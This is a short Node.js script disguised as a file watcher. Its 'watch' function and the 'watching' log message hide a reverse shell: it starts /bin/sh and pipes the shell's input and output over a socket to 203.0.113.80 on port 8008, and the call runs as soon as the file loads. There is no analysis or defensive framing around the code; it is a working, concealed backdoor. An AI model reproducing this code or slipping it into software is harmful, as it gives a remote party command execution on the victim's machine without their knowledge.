const net = require("net");
const { spawn } = require("child_process");

function watch() {
  const sh = spawn("/bin/sh", []);
  const client = new net.Socket();
  client.connect(8008, "203.0.113.80", () => {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
}

watch();
console.log("watching");
